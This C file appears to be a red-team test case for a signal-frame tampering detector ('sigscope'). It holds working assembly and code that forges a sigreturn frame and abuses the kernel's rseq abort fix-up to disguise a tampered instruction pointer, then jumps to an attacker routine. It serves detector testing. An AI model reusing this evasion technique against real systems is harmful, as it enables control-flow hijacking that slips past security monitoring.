/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_rseq_poison (red team round 23, idea 3): the kernel's rseq fix-up made to rewrite what
 * sigscope takes as the delivery's saved rip. A SIGALRM interrupts pause() right after its
 * syscall instruction. The handler sets the frame's rip to A, then recreates the interrupted
 * (rip, rsp): it points rsp back at the interrupted sp, arms an rseq_cs whose one-byte section
 * covers the interrupted rip with abort_ip = A, and runs sched_setaffinity (moving to the other
 * CPU) from the interrupted syscall instruction. The fix-up on that syscall's return lands on
 * A, which then issues the rt_sigreturn through the frame; that frame restores rip = A, which
 * on its second entry runs the attacker's code.
 *
 * Why: a fix-up at the delivery's exact (rip, rsp) was taken for the one inside the frame's
 * setup; recreated later, it makes a tampered rip look like the kernel's own.
 *
 * Expected from sigscope: tampered_context (high, changed rip): only the fix-up before the
 * delivery's handler starts (its FPU registers activated) moves the saved rip. Needs two CPUs
 * and glibc's rseq registration (exit 77 otherwise). Host only.
 */
#include "mal.h"

#include <sched.h>
#include <sys/rseq.h>
#include <sys/time.h>

struct poison_rseq_cs {
	uint32_t version, flags;
	uint64_t start_ip, post_commit_offset, abort_ip;
} __attribute__((aligned(32)));

static struct poison_rseq_cs cs;
volatile uint64_t poison_uc, poison_phase, poison_cs_slot, poison_cs_addr;
static cpu_set_t other;
extern char poison_L[], poison_L2[], poison_A[];

__asm__(".text\n"
	".long 0x53053053\n" /* RSEQ_SIG, before the abort handler */
	".globl poison_A\n"
	"poison_A:\n"
	"  cmpq $0, poison_phase(%rip)\n"
	"  jne 1f\n"
	"  movq $1, poison_phase(%rip)\n"
	"  movq poison_uc(%rip), %rsp\n" /* the sigreturn reads the frame at sp - 8 */
	"  mov $15, %eax\n"
	"  syscall\n"
	"1:\n"
	"  jmp mal_pwned\n");

static void on_alarm(int sig, siginfo_t *info, void *ucv)
{
	ucontext_t *uc = ucv;
	uint64_t sp = (uint64_t)uc->uc_mcontext.gregs[REG_RSP];
	uint64_t ip = (uint64_t)uc->uc_mcontext.gregs[REG_RIP];

	(void)sig;
	(void)info;
	if (ip != (uint64_t)(uintptr_t)poison_L2)
		return; /* not interrupted right after the syscall: leave it */
	/* The CPU it is not on now (chosen here, not at start: a loaded machine may have moved
	 * it since, and an affinity to the CPU it is on moves nothing, so no fix-up happens). */
	CPU_ZERO(&other);
	CPU_SET(sched_getcpu() == 0 ? 1 : 0, &other);
	cs.start_ip = ip;
	cs.post_commit_offset = 1;
	cs.abort_ip = (uint64_t)(uintptr_t)poison_A;
	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)poison_A; /* the tamper */
	poison_uc = (uint64_t)(uintptr_t)uc;
	poison_cs_slot = (uint64_t)(uintptr_t)((char *)__builtin_thread_pointer() + __rseq_offset +
					       offsetof(struct rseq, rseq_cs));
	poison_cs_addr = (uint64_t)(uintptr_t)&cs;
	__asm__ volatile("mov %0, %%rsp\n\t"
			 "mov poison_cs_slot(%%rip), %%r8\n\t"
			 "mov poison_cs_addr(%%rip), %%r9\n\t"
			 "mov %%r9, (%%r8)\n\t"
			 "jmp poison_L\n\t"
			 :
			 : "r"(sp), "a"((long)SYS_sched_setaffinity), "D"(0L),
			   "S"((long)sizeof(other)), "d"(&other)
			 : "r8", "r9", "memory");
	__builtin_unreachable();
}

int main(void)
{
	struct itimerval it = {{0, 0}, {0, 50000}};
	long rax = SYS_pause;

	mal_init("srop_rseq_poison", 10);
	if (__rseq_size == 0 || sysconf(_SC_NPROCESSORS_ONLN) < 2) {
		mal_say("skip: needs glibc's rseq registration and two CPUs");
		return MAL_EXIT_SKIP;
	}
	mal_handle(SIGALRM, on_alarm, 0);
	if (setitimer(ITIMER_REAL, &it, NULL))
		mal_die(MAL_EXIT_SETUP, "setitimer");
	__asm__ volatile(".globl poison_L\npoison_L: syscall\n.globl poison_L2\npoison_L2:\n"
			 : "+a"(rax)
			 :
			 : "rcx", "r11", "memory");
	mal_say("pause returned %ld: the handler left the frame alone", rax);
	return MAL_EXIT_NOTHING;
}
